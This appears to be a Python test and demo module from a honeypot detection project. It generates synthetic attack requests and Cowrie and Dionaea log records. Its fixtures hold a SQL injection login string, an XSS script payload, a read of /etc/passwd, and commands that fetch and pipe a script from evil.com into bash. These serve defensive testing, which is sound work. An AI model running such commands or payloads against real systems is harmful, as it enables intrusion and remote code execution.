"""Synthetic decoy traffic and honeypot records for demos and tests.

Pass a seed to make a run reproducible.
"""

import random
from datetime import datetime
from typing import Any, Optional
from uuid import uuid4

from honeyguard.detection.models import RequestSample
from honeyguard.history import utcnow

ATTACK_IPS = ("192.168.1.100", "203.45.67.89", "198.123.45.67", "10.0.0.15")
NORMAL_IPS = ("172.16.0.1", "192.168.1.50", "10.1.1.100", "203.0.113.45")

DESKTOP_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"
MAC_AGENT = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36"

REQUEST_SCENARIOS: dict[str, RequestSample] = {
    "sql_injection": RequestSample(
        source_ip=ATTACK_IPS[0],
        method="POST",
        endpoint="/login",
        payload="username=admin' OR '1'='1&password=test",
        user_agent=DESKTOP_AGENT,
    ),
    "xss": RequestSample(
        source_ip=ATTACK_IPS[2],
        method="POST",
        endpoint="/search",
        payload="q=<script>alert('XSS')</script>",
        user_agent=MAC_AGENT,
    ),
    "brute_force": RequestSample(
        source_ip=ATTACK_IPS[1],
        method="POST",
        endpoint="/admin",
        payload="username=admin&password=123456",
        user_agent="curl/7.68.0",
    ),
    "normal": RequestSample(
        source_ip=NORMAL_IPS[0],
        method="GET",
        endpoint="/dashboard",
        payload="",
        user_agent=DESKTOP_AGENT,
    ),
}

COWRIE_SESSIONS = (
    {"username": "admin", "password": "admin123", "input": "ls -la"},
    {"username": "root", "password": "123456", "input": "cat /etc/passwd"},
    {"username": "user", "password": "password", "input": "wget http://evil.com/malware.sh"},
    {"username": "admin", "password": "admin", "input": "curl http://evil.com/bot | bash"},
)

DIONAEA_SERVICES = ((445, "smb"), (21, "ftp"), (80, "http"), (1433, "mssql"), (3306, "mysql"))


class TrafficSimulator:
    """Generates request samples and raw honeypot log records.

    Usage:
        sim = TrafficSimulator(seed=7)
        for sample in sim.requests(20):
            await engine.score_request(sample, history)
        engine.honeypot.ingest(sim.cowrie_record(), "cowrie")
    """

    def __init__(self, seed: Optional[int] = None) -> None:
        self._rng = random.Random(seed)

    def request(self) -> RequestSample:
        return REQUEST_SCENARIOS[self._rng.choice(list(REQUEST_SCENARIOS))]

    def requests(self, count: int) -> list[RequestSample]:
        return [self.request() for _ in range(count)]

    def random_ip(self) -> str:
        return ".".join(str(self._rng.randrange(255)) for _ in range(4))

    def cowrie_record(self, timestamp: Optional[datetime] = None) -> dict[str, Any]:
        session = self._rng.choice(COWRIE_SESSIONS)
        return {
            "eventid": uuid4().hex,
            "timestamp": (timestamp or utcnow()).isoformat(),
            "src_ip": self.random_ip(),
            "dst_port": 22,
            "message": "login attempt",
            "session": uuid4().hex[:12],
            **session,
        }

    def dionaea_record(self, timestamp: Optional[datetime] = None) -> dict[str, Any]:
        port, protocol = self._rng.choice(DIONAEA_SERVICES)
        return {
            "timestamp": (timestamp or utcnow()).isoformat(),
            "src_ip": self.random_ip(),
            "src_port": self._rng.randrange(1024, 61024),
            "dst_port": port,
            "protocol": protocol,
            "connection_type": "connect",
            "payload": b"exploit payload".hex(),
            "md5": uuid4().hex,
        }
